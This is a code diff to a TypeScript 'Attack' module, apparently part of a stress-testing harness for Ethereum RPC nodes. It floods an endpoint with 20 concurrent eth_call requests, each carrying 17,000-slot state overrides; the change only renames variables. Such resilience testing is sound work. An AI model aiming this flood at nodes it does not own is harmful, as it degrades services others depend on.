@@ -1,19 +1,19 @@
 import { type Attack, sized } from '../attack.ts';
-import { stage as place } from '../evm-loops.ts';
+import { loopAddress as place } from '../evm-loops.ts';
 
 const word = (value: number) => `0x${value.toString(16).padStart(64, '0')}`;
 
 /** State overrides of as many slots as a request holds. */
 export const largeOverrides: Attack = {
   summary: '20 eth_call at once with state overrides of 17,000 slots each',
-  attack: async (stage) => {
-    const { strangers, urls } = stage;
-    const count = sized(stage, 17_000, 17_000);
+  attack: async (context) => {
+    const { clients, urls } = context;
+    const count = sized(context, 17_000, 17_000);
     const stateDiff = Object.fromEntries(Array.from({ length: count }, (_, slot) => [word(slot), word(slot + 1)]));
     const params = [{ to: place }, 'latest', { [place]: { stateDiff } }];
-    const ask = () => strangers.ask(urls.http ?? '', 'eth_call', ...params);
-    const lanes = sized(stage, 20, 4);
-    if (stage.scale === 'full') await strangers.flood(lanes, ask);
+    const ask = () => clients.call(urls.http ?? '', 'eth_call', ...params);
+    const lanes = sized(context, 20, 4);
+    if (context.scale === 'full') await clients.flood(lanes, ask);
     else await Promise.all(Array.from({ length: lanes }, ask));
   },
 };
